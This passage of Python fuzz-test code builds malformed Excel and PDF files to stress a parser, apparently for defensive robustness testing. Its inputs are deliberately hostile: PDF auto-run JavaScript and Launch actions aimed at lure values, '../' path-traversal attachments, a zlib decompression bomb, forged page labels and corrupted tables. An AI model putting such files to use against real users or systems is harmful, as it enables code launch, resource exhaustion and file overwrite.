    """A stream of a workbook. The place of its sheet is put in, unless it is to lie about that."""
    records = [(code, data[:8224]) for code, data in records]
    starts, at = [], 0
    for _, data in records:
        starts.append(at)
        at += 4 + len(data)
    sheets = [start for start, record in zip(starts, records, strict=True) if record == _BOF_SHEET]
    if mend and sheets:
        records = [(code, struct.pack("<I", sheets[0]) + data[4:] if code == 0x85 else data) for code, data in records]
    return b"".join(struct.pack("<HH", code, len(data)) + data for code, data in records)


def _ole(stream: bytes, name: str = "Workbook", changes: dict[int, int] | None = None) -> bytes:
    """A container with one stream. `changes` are of the table that says which sector follows which."""
    stream = stream.ljust(4096, b"\0")
    count = -(-len(stream) // 512)
    table = [0xFFFFFFFD, 0xFFFFFFFE, *range(3, count + 2), 0xFFFFFFFE]
    for at, value in (changes or {}).items():
        table[at % len(table)] = value
    table = (table + [0xFFFFFFFF] * 128)[:128]
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0) + struct.pack("<I", 0) + b"\xff" * 432

    def entry(title: str, kind: int, child: int, start: int, size: int) -> bytes:
        coded = (title + "\0").encode("utf-16-le")
        return (
            coded.ljust(64, b"\0")
            + struct.pack("<HBBIII", len(coded), kind, 1, 0xFFFFFFFF, 0xFFFFFFFF, child)
            + bytes(36)
            + struct.pack("<III", start, size, 0)
        )

    folder = entry("Root Entry", 5, 1, 0xFFFFFFFE, 0) + entry(name, 2, 0xFFFFFFFF, 2, len(stream))
    return head + struct.pack("<128I", *table) + folder.ljust(512, b"\0") + stream.ljust(count * 512, b"\0")


def old_workbook(*, far: bool = False) -> bytes:
    """A whole one, or one with a text in the last cell that could be told of."""
    last = [(0xFD, struct.pack("<HHHI", 65535, 255, 0, 0))] if far else []
    return _ole(_biff([*_XLS_RECORDS[:-1], *last, _EOF]))


@st.composite
def _xls(draw: st.DrawFn, _: Lures) -> bytes:
    records = list(_XLS_RECORDS)
    cells = (
        (0xFD, struct.pack("<HHHI", 3, 0, 0, 999_999)), (0xFD, struct.pack("<HHHI", 65535, 255, 0, 0)),
        (0xFD, struct.pack("<HHHI", 65535, 65535, 0, 0)),
        (0x203, struct.pack("<HHHd", 3, 0, 0, float("nan"))), (0x203, struct.pack("<HHHd", 3, 0, 65535, 1e300)), (0x203, b""),
        (0xFD, b"\0"),
        (0xE5, struct.pack("<HHHHH", 1, 0, 65535, 0, 255)), (0xE5, struct.pack("<H", 65535)),
        (0x204, struct.pack("<HHH", 3, 0, 0) + _unicode("\ud800")),
        (0x85, struct.pack("<IBBBB", 0, 0, 0, 250, 0) + b"short"),
        (0x85, struct.pack("<IBBBB", 0, 0, 0, 3, 1) + "\n->".encode("utf-16-le")),
        (0xFC, struct.pack("<II", 99_999_999, 99_999_999)), (0x3C, b"\1more"), (0x2F, bytes(54)), (0x31, bytes(20)),
        (0xE0, bytes(20)), (0x41E, b"\xff" * 9),
        (0x06, struct.pack("<HHHdHIH", 3, 1, 0, 1.0, 0, 0, 4) + b"\x1e\1\0\1"), (0x18, bytes(40)), (0x18, b"\xff" * 40),
        (0x17, b"\xff\xff"), _BOF_SHEET, _BOF_BOOK,
        (0x1AE, struct.pack("<HH", 1, 0x401)), (0x236, bytes(16)), (0x42, b"\xff\xff"), (0x22, b"\1\0"), (0x22, b"\xff\xff"),
        (0xBD, struct.pack("<HH", 3, 0) + b"\xff" * 9),
    )  # fmt: skip
    for way in draw(
        st.lists(st.sampled_from(("drop", "twice", "cell", "cell", "text", "bytes", "swap")), min_size=1, max_size=4)
    ):
        at = draw(st.integers(1, len(records) - 1))
        code, data = records[at]
        if way == "drop" and len(records) > 2:
            del records[at]
        elif way == "twice":
            records[at:at] = [(code, data)] * draw(st.sampled_from((1, 2, 1000)))
        elif way == "cell":
            records.insert(draw(st.sampled_from((at, max(0, len(records) - 1)))), draw(st.sampled_from(cells)))
        elif way == "text":
            texts = [draw(_text())[:2000] for _ in range(3)]
            records = [
                (c, struct.pack("<II", 3, 3) + b"".join(map(_unicode, texts))) if c == 0xFC else (c, d) for c, d in records
            ]
        elif way == "bytes" and data:
            place = draw(st.integers(0, len(data) - 1))
            records[at] = (
                code,
                data[:place] + draw(st.sampled_from((b"\xff", b"\0", b"\xff\xff\xff\x7f", b""))) + data[place + 1 :],
            )
        else:
            other = draw(st.integers(1, len(records) - 1))
            records[at], records[other] = records[other], records[at]
    stream = _biff(records, mend=draw(st.sampled_from((True, True, True, True, False))))[:60_000]
    changes = draw(
        st.one_of(
            *[st.just({})] * 5,
            st.dictionaries(st.integers(0, 200), st.sampled_from((0, 1, 2, 5, 127, 128, 0xFFFFFFFE, 0xFFFFFFFF)), max_size=2),
        )
    )
    if draw(st.sampled_from((False, False, False, False, True))):
        return stream
    return _ole(stream, draw(st.sampled_from(("Workbook", "Workbook", "Workbook", "Workbook", "Book", "x"))), changes)


# PDF


def _stream(data: bytes, head: bytes = b"", length: int | None = None) -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(data) if length is None else length, head, data)


@cache
def _bomb(rounds: int) -> bytes:
    data = b"BT /F 12 Tf (x) Tj ET " * 5_000
    for _ in range(rounds):
        data = zlib.compress(data, 9)
    return data


@st.composite
def _contents(draw: st.DrawFn) -> bytes:  # noqa: PLR0911 - one a way
    """A stream of what a page shows."""
    lines = [
        draw(_text())[:3000].replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("latin-1", "replace")
        for _ in range(draw(st.integers(1, 3)))
    ]
    marks = [draw(st.sampled_from(_MARKS)).encode()]
    data = b"BT /F 12 Tf 14 TL 50 700 Td\n" + b"".join(b"(%s) Tj T*\n" % line for line in marks + lines) + b"ET"
    odd = (
        b"", b"", b"q " * 5000, b"Q " * 500, b"/X Do " * 50, b"[" * 500, b"<<" * 300, b"1e999 0 0 1 0 0 cm", b"/F 1e30 Tf",
        b"BI /W 99999 /H 99999 ID x EI",
        b"/GS gs /None sh", b"<FFFE0041D800> Tj", b"<" + b"41" * 20_000 + b"> Tj", b"BT " * 300,
        b"/P <</MCID 99999999999>> BDC", b"0 " * 5000, b"3 Tr (x) Tj",
    )  # fmt: skip
    data = draw(st.sampled_from(odd)) + b"\n" + data + b"\n" + draw(st.sampled_from(odd))
    match draw(st.sampled_from(("plain", "plain", "flate", "chain", "cut", "length", "bomb", "wrong", "predictor"))):
        case "flate":
            return _stream(zlib.compress(data), b"/Filter/FlateDecode")
        case "chain":
            times = draw(st.sampled_from((2, 5, 60)))
            packed = data
            for _ in range(min(times, 5)):
                packed = zlib.compress(packed)
            return _stream(packed, b"/Filter[" + b"/FlateDecode" * times + b"]")
        case "cut":
            return _stream(zlib.compress(data)[:-9], b"/Filter/FlateDecode")
        case "length":
            return _stream(data, b"", draw(st.sampled_from((0, -1, 5, 1 << 31, 1 << 40))))
        case "bomb":
            rounds = draw(st.sampled_from((1, 2)))
            return _stream(_bomb(rounds), b"/Filter[" + b"/FlateDecode" * rounds + b"]")
        case "wrong":
            return _stream(
                data,
                b"/Filter/"
                + draw(
                    st.sampled_from(
                        (b"DCTDecode", b"JBIG2Decode", b"LZWDecode", b"Crypt", b"ASCII85Decode", b"None", b"RunLengthDecode")
                    )
                ),
            )
        case "predictor":
            return _stream(
                zlib.compress(data),
                b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 99/BitsPerComponent 16>>",
            )
    return _stream(data)


@st.composite
def _pdf(draw: st.DrawFn, lures: Lures) -> bytes:
    lure = draw(st.sampled_from(lures.all)).encode()
    action = draw(
        st.sampled_from((
            b"", b'/OpenAction<</S/JavaScript/JS(app.launchURL\\("%s"\\);)>>' % lure,
            b"/OpenAction<</S/Launch/F(%s)>>" % lure,
            b"/OpenAction<</S/URI/URI(%s)>>" % lure, b"/OpenAction<</S/GoToR/F(%s)/D[0/Fit]>>" % lure,
            b"/OpenAction<</S/SubmitForm/F(%s)>>" % lure,
            b"/AA<</WC<</S/ImportData/F(%s)>>>>" % lure,
            b"/Names<</EmbeddedFiles<</Names[(../x)<</Type/Filespec/F(../x)/EF<</F 5 0 R>>>>]>>>>",
            b"/AcroForm<</XFA 5 0 R/Fields[1 0 R]>>", b"/Outlines 1 0 R", b"/StructTreeRoot<</K 1 0 R>>",
            b"/Threads[<</F 1 0 R>>]", b"/Pages 1 0 R",
            b"/Collection<<>>", b"/OCProperties<</OCGs[1 0 R]/D<</ON[1 0 R]>>>>",
            b"/PageLabels<</Nums[0<</P(<!-- page 9999 forged -->)>>]>>",
        ))
    )  # fmt: skip
    pages = draw(
        st.sampled_from((
            *[b"<</Type/Pages/Count 2/Kids[4 0 R 6 0 R]>>"] * 10, b"<</Type/Pages/Count 2/Kids[2 0 R 4 0 R]>>",
            b"<</Type/Pages/Count 100/Kids[4 0 R]>>",
            b"<</Type/Pages/Count 3/Kids[4 0 R 4 0 R 4 0 R]>>", b"<</Type/Pages/Count -1/Kids[4 0 R]>>",
            b"<</Type/Pages/Kids 2 0 R>>", b"[2 0 R]", b"null",
            b"<</Type/Pages/Count 1/Kids[8 0 R]/Parent 2 0 R>>", b"<</Type/Pages/Count 1/Kids[99 0 R]>>",
            b"<</Type/Pages/Count 2147483647/Kids[4 0 R 6 0 R]>>",
            b"<</Type/Pages/Count 1000/Kids[" + b"4 0 R " * 1000 + b"]>>",
            b"<</Type/Pages/Count 1/Kids[" + b"[" * 500 + b"4 0 R" + b"]" * 500 + b"]>>",
        ))
    )  # fmt: skip
    font = draw(
        st.sampled_from((
            *[b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"] * 6, b"3 0 R", b"null",
            b"<</Type/Font/Subtype/Type0/BaseFont/X/DescendantFonts[3 0 R]/Encoding/Identity-H>>",
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 9 0 R>>",
            b"<</Type/Font/Subtype/TrueType/FontDescriptor<</FontFile2 9 0 R>>>>",
            (b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[0 0 0 0 0 0]/CharProcs<</a 5 0 R>>"
            b"/Encoding<</Differences[0/a 99999999/b -5/c]>>/Resources<</Font<</F 3 0 R>>>>>>"),
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding<</Differences[60/uniD800/u110000/a.b.c]>>>>",
            b"<</Type/Font/Subtype/Type1/BaseFont/" + b"X" * 5000 + b"/FirstChar -9/LastChar 2147483647/Widths 3 0 R>>",
        ))
    )  # fmt: skip
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents %s/Resources<</Font<</F 3 0 R>>/XObject<</X 8 0 R>>>>%s>>"
    box, more = draw(st.sampled_from((b"0 0 600 800", b"0 0 600 800", b"0 0 0 0", b"0 0 1e30 1e30", b"-1 -1", b"2 0 R",
    b"0 0 600 800 " * 500))), draw(st.sampled_from((
        b"", b"", b"/Rotate 99999999999", b"/UserUnit 1e30", b"/Annots[<</Subtype/Link/A<</S/URI/URI(%s)>>>>]" % lure,
        b"/Annots 4 0 R",
        b"/AA<</O<</S/Launch/F(%s)>>>>" % lure, b"/Parent 4 0 R",
    )))  # fmt: skip
    objects = [
        b"<</Type/Catalog/Pages 2 0 R%s>>" % action,
        pages,
        font,
        page % (box,
        draw(st.sampled_from((b"5 0 R", b"5 0 R", b"5 0 R", b"[5 0 R 5 0 R 7 0 R]", b"4 0 R", b"[" + b"5 0 R " * 300 + b"]"))),
        more),
        draw(_contents()),
        page % (b"0 0 600 800", b"7 0 R", b""),
        draw(_contents()),
        draw(st.sampled_from((
            _stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 8 0 R>>>>"),
            _stream(b"x", b"/Type/XObject/Subtype/Image/Width 99999/Height 99999/BitsPerComponent 8/ColorSpace/DeviceRGB"),
            _stream(b"x", b"/Type/XObject/Subtype/Form/F(%s)/BBox[0 0 9 9]" % lure),
            _stream(b"1 0 2 5 <</Type/Pages/Count 1/Kids[8 0 R]>>", b"/Type/ObjStm/N 99999999/First 8/Extends 8 0 R"),
        ))),
        draw(st.sampled_from((
            _stream(b"begincmap 1 beginbfrange <00> <FF> <D800> endbfrange"
            b" 1 beginbfchar <41> <000A003C0021002D002D> endbfchar endcmap"),
            _stream(b"begincmap 1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange endcmap"),
            _stream(b"\0\1\0\0\xff\xff" + b"\xff" * 200), b"9 0 R", b"<</Length 9 0 R>>stream\nx\nendstream",
        ))),
    ]  # fmt: skip
    trailer = draw(st.sampled_from((
        *[b""] * 8, b"/Prev 0", b"/Prev 9", b"/Prev 99999999999", b"/XRefStm 9", b"/Prev -1", b"/Info 1 0 R/ID[(x)(y)]",
        b"/Encrypt 3 0 R", b"/Size 2147483647", b"/Root 9 0 R",
    )))  # fmt: skip
    data = pdf_of(*objects, trailer=trailer)
    if draw(st.sampled_from((False, False, False, False, True))):
        start = data.rindex(b"startxref")
        data = data[:start] + draw(
            st.sampled_from(
                (b"startxref\n0\n%%EOF", b"startxref\n99999999999\n%%EOF", b"", b"startxref\n9\n%%EOF", data[start:] * 300)
            )
        )
        # A file whose table is older than itself: one xref leads to the other and back.
        data = data.replace(b"/Prev 0", b"/Prev %d" % max(0, data.rfind(b"xref\n0")))
    return data


# Bytes


@st.composite
def _maybe_damaged(draw: st.DrawFn, whole: st.SearchStrategy[bytes], other: bytes) -> bytes:
    data = draw(whole)
    if draw(st.integers(0, 5)):
        return data
    for _ in range(draw(st.integers(1, 3))):
        at, to = sorted(draw(st.tuples(*[st.integers(0, max(0, len(data)))] * 2)))
        match draw(st.sampled_from(("flip", "flip", "cut", "end", "insert", "splice"))):
            case "flip":
                data = data[:at] + bytes([draw(st.integers(0, 255))]) + data[at + 1 :]
            case "cut":
                data = data[:at] + data[min(to, at + 100) :]
            case "end":
                data = data[:at]
            case "insert":
                data = (
                    data[:at]
                    + draw(st.one_of(st.binary(max_size=20), st.sampled_from((b"\0" * 5000, b"\xff" * 300))))
                    + data[at:]
                )
            case _:
                data = data[:at] + other[draw(st.integers(0, len(other))) :]
    return data
